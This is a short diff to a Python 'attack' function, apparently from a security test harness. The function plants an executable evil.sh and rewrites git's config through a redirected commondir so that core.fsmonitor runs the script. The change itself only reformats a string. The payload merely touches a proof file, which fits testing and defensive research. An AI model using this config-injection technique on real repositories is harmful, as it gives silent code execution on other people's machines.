@@ -19,7 +19,8 @@ def attack(a):
     put("evil.sh", f"#!/bin/sh\ntouch {a['proof']}\n")
     os.chmod("evil.sh", 0o755)
     shutil.copytree(".git", "data", ignore=shutil.ignore_patterns("hooks"))
-    put("data/config", f"[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tfsmonitor = {a['ws']}/evil.sh\n")
+    put("data/config", "[core]\n\trepositoryformatversion = 0\n\tbare = false\n"
+        f"\tfsmonitor = {a['ws']}/evil.sh\n")
     put(".git/commondir", "../data\n")
 
 
